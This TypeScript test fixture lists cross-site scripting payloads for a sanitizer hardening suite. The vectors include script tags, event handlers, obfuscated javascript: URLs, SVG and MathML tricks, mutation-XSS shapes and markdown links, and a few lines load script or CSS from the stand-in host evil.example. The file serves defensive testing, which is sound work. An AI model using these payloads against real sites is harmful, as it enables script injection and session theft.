/**
 * Hostile strings for the hardening suite, by family. Each one, wherever it lands (a text
 * field, a link URL, an attribute of authored HTML), must stay text: no script runs, no event
 * handler or unsafe URL reaches a shadow root. Sentinels write to `window.__sovXss`.
 */
const S = 'window.__sovXss=1';

export const textPayloads: string[] = [
  // script and event-handler tags
  `<script>${S}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${S}">`,
  `<img src="x" onerror=${S}//`,
  `<body onload=${S}>`,
  `<div onmouseover="${S}">survol</div>`,
  `<input autofocus onfocus=${S}>`,
  `<details open ontoggle=${S}>`,
  `<video><source onerror="${S}"></video>`,
  `<marquee onstart=${S}>`,
  `"><script>${S}</script>`,
  `'><img src=x onerror=${S}>`,
  `</textarea><script>${S}</script>`,
  `<style>@import 'javascript:${S}';</style>`,
  // javascript:, data:, vbscript: URLs with tricks
  `<a href="javascript:${S}">lien</a>`,
  `<a href="JaVaScRiPt:${S}">lien</a>`,
  `<a href=" javascript:${S}">lien</a>`,
  `<a href="java&#x09;script:${S}">lien</a>`,
  `<a href="&#106;avascript:${S}">lien</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>`,
  `<a href="vbscript:msgbox(1)">lien</a>`,
  `<iframe src="javascript:${S}"></iframe>`,
  `<iframe srcdoc="<script>parent.${S}</script>"></iframe>`,
  `<form action="javascript:${S}"><button>x</button></form>`,
  `<object data="javascript:${S}"></object>`,
  `<embed src="data:text/html,<script>${S}</script>">`,
  // SVG and MathML vectors
  `<svg onload=${S}>`,
  `<svg><script>${S}</script></svg>`,
  `<svg><a xlink:href="javascript:${S}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin=${S} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${S}>`,
  `<math href="javascript:${S}">x</math>`,
  // mutation XSS shapes
  `<noscript><p title="</noscript><img src=x onerror=${S}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${S}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${S}>`,
  `<listing>&lt;img src=1 onerror=${S}&gt;</listing>`,
  `<template><img src=x onerror=${S}></template>`,
  // breaking out of JSON-LD or inline JSON
  `</script><script>${S}</script>`,
  `</SCRIPT ><script>${S}</script>`,
  `<!--<script>`,
  `\u2028\u2029</script>`,
  `"}]}</script><img src=x onerror=${S}>`,
  // CSS injection
  `</style><style>*{display:none}</style>`,
  `x" style="position:fixed;inset:0;background:red`,
  `expression(alert(1))`,
  `url("javascript:${S}")`,
  `@import url(//evil.example/x.css);`,
  // template syntax
  '${window.__sovXss=1}',
  '{{constructor.constructor("window.__sovXss=1")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '<!--?lit$1234$-->',
  '<?lit$1234$>',
  // inline-format link vectors
  `[clic](javascript:${S})`,
  `[clic](JAVASCRIPT:${S})`,
  `[clic]( javascript:${S})`,
  `[clic](data:text/html,<script>${S}</script>)`,
  `[clic](vbscript:x)`,
  `[clic](//evil.example)`,
  `[clic](java\tscript:${S})`,
  `**<b onclick=${S}>gras</b>**`,
  '`<script>' + S + '</script>`',
  // over-long, bidi and zero-width
  // Long, but within the model's limit of 5,000 characters per inline text (longer is refused:
  // see the limits tests), with room for the links the light-DOM builders append.
  'A'.repeat(4_000),
  '<'.repeat(4_000),
  '\u202Eevil\u202C gnp.exe',
  'ja\u200bvascript:alert(1)',
  '\u0000\u0001\u0008 contrôle',
  '\uFEFFbom',
  '𝒳 \uD800 orphelin',
];

/** URLs to put into link positions (authored `href`, inline `[x](url)`); none may survive as a link. */
export const urlPayloads: string[] = [
  `javascript:${S}`,
  `JAVASCRIPT:${S}`,
  ` javascript:${S}`,
  `java\tscript:${S}`,
  `java\nscript:${S}`,
  `\u0001javascript:${S}`,
  `jav&#x09;ascript:${S}`,
  `data:text/html,<script>${S}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
];
